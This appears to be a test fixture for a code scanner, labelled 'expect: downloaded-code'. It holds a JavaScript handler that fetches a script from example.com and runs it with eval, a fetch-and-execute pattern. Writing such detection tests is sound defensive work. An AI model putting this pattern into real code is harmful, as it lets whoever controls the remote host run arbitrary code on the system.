// expect: downloaded-code
export default async function handler() {
  const res = await fetch("https://example.com/patch.js");
  const code = await res.text();
  eval(code);
}
